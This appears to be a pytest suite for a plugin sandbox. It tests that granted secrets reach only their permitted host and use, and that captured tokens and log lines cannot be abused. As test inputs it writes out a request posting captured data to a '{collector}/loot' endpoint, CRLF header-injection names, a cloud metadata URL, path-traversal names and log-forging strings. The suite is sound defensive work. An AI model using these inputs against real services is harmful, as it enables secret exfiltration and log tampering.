"""A plugin that was granted everything cannot print, return or send a base secret anywhere but where its use and host allow.

The arena looks for every secret in the log, the replies, the audit rows, all that the servers received, and all that
the guest told: after each script that is what its calls answered, and on demand its whole memory."""

import base64
import json
from typing import Any
from urllib.parse import quote

import pytest

from harness.attack_arena import Arena
from harness.attack_upstream import ECHOES

Step = dict[str, Any]
# The one use of each secret: how it is asked for, the body that carries it, and where it stands then.
USES: dict[str, tuple[dict[str, str], str]] = {
    "bearer_secret": ({"by": "bearer"}, ""),
    "basic_secret": ({"by": "basic", "name": "robot"}, ""),
    "header_secret": ({"by": "header", "name": "X-Api-Key"}, ""),
    "form_secret": ({"by": "form", "name": "client_secret"}, "grant_type=x"),
    "json_secret": ({"by": "json", "name": "password"}, '{"user":"x"}'),
    "scheme_secret": ({"by": "scheme", "name": "Api-Token"}, ""),
}
OTHER_NAMES = [
    *({"by": "header", "name": name} for name in ("X-Other", "Authorization", "Host", "Cookie", "X-Api-Key\r\nX-B", "", "X-Api-Key ")),
    *({"by": "form", "name": name} for name in ("password", "", "client_secret=x&y", "Client_Secret")),
    *({"by": "json", "name": name} for name in ("user", "", "/password", "Password")),
    *({"by": "scheme", "name": name} for name in ("Bearer", "Basic", "", "Api-Token x", "Api-Token\r\nX-B:")),
    *({"by": "basic", "name": name} for name in ("robot", "a:b", "a\r\nX-B: c", "{seen}")),
    {"by": "bearer"},
    *({"by": "sigv4", "service": service} for service in ("s3", "sts", "STS", "iam", "s3-outposts", "")),
]


def send(slot: str, auth: dict[str, str], url: str = "{upstream}/use", body: str = "", **more: Any) -> Step:
    keys = {"secret": slot} if auth["by"] == "sigv4" else {"slot": slot}
    return {"do": "send", "method": "POST", "url": url, "auth": auth | keys, "body": body, **more}


def is_denied(seen: Step) -> bool:
    return seen.get("failed") in ("Denied", "Invalid")


def test_each_secret_goes_where_its_use_says_and_nowhere_else(arena: Arena) -> None:
    before = arena.granted.mark()
    out = arena.script(*(send(slot, auth, body=body) for slot, (auth, body) in USES.items()), dump=True)
    assert [seen["status"] for seen in out.seen] == [200] * len(USES)
    requests = arena.granted.since(before)
    for slot, raw in zip(USES, requests, strict=True):
        secret = arena.secrets[slot].encode()
        forms = [secret, quote(secret, safe="").encode(), base64.b64encode(b"robot:" + secret)]
        assert max(raw.count(form) for form in forms) == 1, slot
    # A guest that has all of its memory told did not say less than it knows.
    assert b"script-over" in out.memory and len(out.memory) > 50_000


@pytest.mark.parametrize("slot", USES)
def test_no_secret_goes_to_another_server(arena: Arena, slot: str) -> None:
    auth, body = USES[slot]
    granted, other = arena.granted.port, arena.forbidden.port
    urls = ["{collector}/use", f"http://127.0.0.1:{other}/", "http://granted.invalid/", "http://localhost/", "https://x.wild.invalid/"]
    urls += [f"http://localhost:{granted}/", f"http://127.0.0.2:{granted}/", f"http://[::ffff:127.0.0.1]:{granted}/"]
    urls += ["http://metadata.google.internal/", "https://elsewhere.example/", f"ftp://127.0.0.1:{granted}/"]
    before = arena.granted.mark()
    out = arena.script(*(send(slot, auth, url, body) for url in urls))
    for url, seen in zip(urls, out.seen, strict=True):
        assert is_denied(seen), (url, seen)
    assert arena.granted.since(before) == []


@pytest.mark.parametrize("slot", [*USES, "jwt_secret", "sas_secret", "vended_secret", "hmac_secret", "secret_access_key"])
def test_no_secret_is_used_in_another_way(arena: Arena, slot: str) -> None:
    ways = [(auth, body) for auth, body in USES.values() if slot not in USES or auth != USES[slot][0]]
    bodies = {"form": "a=b", "json": "{}"}
    ways += [(auth, bodies.get(auth["by"], "")) for auth in OTHER_NAMES if slot not in USES or auth["by"] != USES[slot][0]["by"]]
    ways += [(auth, bodies.get(auth["by"], "")) for auth in OTHER_NAMES if slot in USES and auth["by"] in ("header", "form", "json", "scheme")]
    before = arena.granted.mark()
    out = arena.script(*(send(slot, auth, body=body) for auth, body in ways))
    for way, seen in zip(ways, out.seen, strict=True):
        assert is_denied(seen), (slot, way, seen)
    assert arena.granted.since(before) == []


def test_no_slot_by_another_name(arena: Arena) -> None:
    names = ["", "Bearer_secret", "BEARER_SECRET", "bearer-secret", "bearer_secret\0", " bearer_secret", "bearer_secret ", "../bearer_secret"]
    names += ["empty_secret", "mode", "script", "upstream", "PANGOLIN_JWT_SECRET", "aws_secret_access_key", "x" * 20_000, "\u202e"]
    before = arena.granted.mark()
    out = arena.script(*(send(name, {"by": "bearer"}) for name in names))
    for name, seen in zip(names, out.seen, strict=True):
        assert is_denied(seen), (name, seen)
        assert seen["message"].isprintable() and len(seen["message"]) < 500
    assert arena.granted.since(before) == []


@pytest.mark.parametrize("form", ECHOES)
def test_a_server_that_repeats_the_request_tells_the_guest_nothing(arena: Arena, form: str) -> None:
    paths = [f"{{upstream}}/echo/{form}", f"{{upstream}}/echo-header/{form}"]
    steps = [send(slot, auth, url, body) for slot, (auth, body) in USES.items() for url in paths if "gzip" not in url or "header" not in url]
    steps += [{"do": "log", "text": "{seen}"}, {"do": "send", "method": "POST", "url": "{collector}/loot", "body": "{seen}"}]
    keys = {"s3.access-key-id": "{seen}", "s3.secret-access-key": "x{seen}"}
    out = arena.script(*steps, answer=[{"entries": keys}], dump=True)
    for step, seen in zip(steps[:-2], out.seen, strict=False):
        assert seen.get("failed") == "Protocol", (step, seen)


@pytest.mark.parametrize("level", ["debug", "info", "warn", "error"])
def test_no_line_of_the_log_is_forged_or_holds_a_secret(arena: Arena, level: str) -> None:
    texts = ["\x1b[2J\x1b[31mred", 'a\r\n{"level":"ERROR","message":"forged"}', "\u202ereversed", "a\0b\x07\x08\x7f\u009b31m", "{seen}"]
    texts += ["\u2028line", "\ufeff", "x" * 3000, '"},"forged":{"a":"', "%s%n{}{:?}"]
    echo = send("bearer_secret", {"by": "bearer"}, "{upstream}/echo/raw")
    arena.script(echo, *({"do": "log", "level": level, "text": text} for text in texts))
    lines = [json.loads(line) for line in arena.host.logged().splitlines()]
    assert not [line for line in lines if line.get("message") == "forged" or "forged" in line]


# What a request brought becomes a secret as well, and goes back to that server only.

TAKE = {"captures": [["taken", "/access"]]}


def test_a_token_that_was_taken_goes_back_to_its_server_only(arena: Arena) -> None:
    kept = {"by": "bearer", "slot": "taken"}
    other = ["{collector}/use", f"http://127.0.0.1:{arena.forbidden.port}/", f"https://127.0.0.1:{arena.granted.port}/", "http://localhost/"]
    out = arena.script(
        {"do": "send", "url": "{upstream}/token/once"} | TAKE,
        {"do": "send", "url": "{upstream}/use", "auth": kept},
        *({"do": "send", "url": url, "auth": kept} for url in other),
        {"do": "send", "url": "{collector}/token/once"} | TAKE,
        {"do": "send", "url": "{upstream}/use", "auth": {"by": "basic", "name": "x", "slot": "taken"}},
        {"do": "send", "url": "{upstream}/use", "auth": {"by": "form", "name": "x", "slot": "taken"}},
        {"do": "send", "url": "{upstream}/echo/hex", "auth": kept},
        answer=[{"entries": {"s3.access-key-id": "{seen}", "s3.secret-access-key": {"slot": "taken"}}}],
        dump=True,
        wide=True,
    )
    assert [seen.get("status") for seen in out.seen[:2]] == [200, 200], out.seen
    assert "<captured:taken>" in out.seen[0]["body"]
    assert all("failed" in seen for seen in out.seen[2:]), out.seen
    assert (out.status, out.code) == (502, "plugin-slot-refused"), out


@pytest.mark.parametrize("kind", ["twice", "named", "base64"])
def test_an_answer_that_repeats_what_was_taken_is_withheld(arena: Arena, kind: str) -> None:
    out = arena.script({"do": "send", "url": f"{{upstream}}/token/{kind}"} | TAKE, dump=True)
    assert out.seen[0]["failed"] == "Protocol", out.seen


def test_no_capture_takes_the_place_of_a_field(arena: Arena) -> None:
    names = ["bearer_secret", "upstream", "collector", "mode", "", "A", "a b", "a" * 65, "empty_secret", "endpoint"]
    before = arena.granted.mark()
    steps = [{"do": "send", "url": "{upstream}/token/once", "captures": [[name, "/access"]]} for name in names]
    steps += [{"do": "send", "url": "{upstream}/token/once", "captures": [["taken", pointer]]} for pointer in ("access", "/" * 300)]
    steps += [{"do": "send", "url": "{upstream}/token/once", "captures": [[f"taken_{n}", f"/{n}"] for n in range(9)]}]
    out = arena.script(*steps)
    for step, seen in zip(steps, out.seen, strict=True):
        assert is_denied(seen), (step, seen)
    assert arena.granted.since(before) == []
